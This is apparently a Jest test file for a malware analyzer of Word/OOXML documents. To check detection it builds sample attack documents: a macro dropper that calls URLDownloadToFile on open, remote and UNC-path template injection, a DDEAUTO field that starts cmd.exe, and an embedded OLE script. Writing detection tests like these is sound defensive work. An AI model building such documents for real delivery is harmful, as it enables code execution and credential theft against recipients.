import { analyzeOoxml, ANALYZER_VERSION } from '../../../src/analyzers/documents/ooxml';
import { buildCfb, buildDocm, buildVbaProjectBin, buildZip, BENIGN_CODE, DROPPER_CODE } from './builders';
import { corpusAttachment } from './corpus-attachments';

const rels = (...relationships: string[]): string =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join('')}</Relationships>`;
const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';

describe('Office Open XML packages', () => {
  test('a .docm whose vbaProject.bin downloads and runs a payload on open is malicious', async () => {
    const docm = await buildDocm(buildVbaProjectBin([{ name: 'Module1', code: DROPPER_CODE }]));
    const { finding, facts } = await analyzeOoxml(docm, 'invoice.docm');
    expect(facts.application).toBe('word');
    expect(facts.macroEnabled).toBe(true);
    expect(facts.vba?.projects[0].modules[0].source).toContain('URLDownloadToFile 0, url, path, 0, 0');
    expect(facts.vba?.autoExec).toEqual(['AutoOpen']);
    expect(finding.analyzer).toBe('ooxml');
    expect(finding.verdict).toBe('malicious');
    expect(finding.attack).toEqual(expect.arrayContaining(['T1204.002', 'T1059.005', 'T1105']));
    expect(ANALYZER_VERSION).toMatch(/^\d+$/);
  });

  test('a .docm with harmless macros is benign', async () => {
    const { finding } = await analyzeOoxml(await buildDocm(buildVbaProjectBin([{ name: 'Module1', code: BENIGN_CODE }])));
    expect(finding.verdict).toBe('benign');
  });

  test('a remote attached template over HTTP is template injection (T1221)', async () => {
    const docx = await buildDocm(undefined, [
      {
        name: 'word/_rels/settings.xml.rels',
        data: rels(`<Relationship Id="rId1" Type="${TEMPLATE}" Target="http://198.51.100.7/tpl.dotm" TargetMode="External"/>`),
      },
    ]);
    const { finding, facts } = await analyzeOoxml(docx);
    expect(facts.externalRelationships).toEqual([
      { part: 'word/_rels/settings.xml.rels', type: 'attachedTemplate', target: 'http://198.51.100.7/tpl.dotm' },
    ]);
    expect(finding.verdict).toBe('suspicious');
    expect(finding.score).toBe(75);
    expect(finding.attack).toEqual(['T1221']);
  });

  test('a template on a UNC path leaks credentials (T1187); external hyperlinks are not flagged', async () => {
    const docx = await buildDocm(undefined, [
      {
        name: 'word/_rels/settings.xml.rels',
        data: rels(
          `<Relationship Id="rId1" Type="${TEMPLATE}" Target="\\\\203.0.113.8\\share\\t.dotx" TargetMode="External"/>`,
          '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/>',
        ),
      },
    ]);
    const { finding, facts } = await analyzeOoxml(docx);
    expect(facts.externalRelationships.map((r) => r.type)).toEqual(['attachedTemplate']);
    expect(finding.attack).toEqual(['T1187', 'T1221']);
  });

  test('a DDEAUTO field split over runs that starts cmd.exe is malicious (T1559.002)', async () => {
    const body =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\</w:instrText></w:r><w:r><w:instrText>cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
    const docx = await buildDocm(undefined, [
      {
        name: 'word/document.xml',
        data: `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
      },
    ]);
    const { finding, facts } = await analyzeOoxml(docx);
    expect(facts.ddeFields.join(' ')).toMatch(/DDEAUTO c:\\\\windows\\\\system32\\\\cmd\.exe/);
    expect(finding.verdict).toBe('malicious');
    expect(finding.attack).toEqual(['T1559.002']);
  });

  test('an embedded OLE package carrying a script is reported through the OLE analyzer', async () => {
    const label = Buffer.from('readme.js\0', 'latin1');
    const u32 = (n: number): Buffer => {
      const b = Buffer.alloc(4);
      b.writeUInt32LE(n);
      return b;
    };
    const native = Buffer.concat([u32(0), Buffer.from([2, 0]), label, label, u32(0), u32(0), u32(4), Buffer.from('eval')]);
    const docx = await buildDocm(undefined, [{ name: 'word/embeddings/oleObject1.bin', data: buildCfb({ '\u0001Ole10Native': native }) }]);
    const { finding, facts } = await analyzeOoxml(docx);
    expect(facts.embeddedObjects.map((o) => o.path)).toEqual(['word/embeddings/oleObject1.bin']);
    expect(finding.verdict).toBe('suspicious');
    expect(finding.summary).toMatch(/embedded object word\/embeddings\/oleObject1\.bin/);
  });

  test('real phishing .docx attachments (corpus) without macros or remote content are benign', async () => {
    for (const [sample, name] of [
      ['1155', 'AMGV2UG-K6EYVM.docx'],
      ['5599', 'lnvoice-Number002346234.docx'],
    ]) {
      const { finding, facts } = await analyzeOoxml(await corpusAttachment(sample, name), name);
      expect(facts.application).toBe('word');
      expect(facts.macroEnabled).toBe(false);
      expect(finding.error).toBeUndefined();
      expect(finding.verdict).toBe('benign');
    }
  });

  test('a zip that is not an Office package: a finding with error', async () => {
    const { finding } = await analyzeOoxml(await buildZip([{ name: 'a.txt', data: 'x' }]));
    expect(finding.error).toMatch(/not an OOXML package/);
  });
});
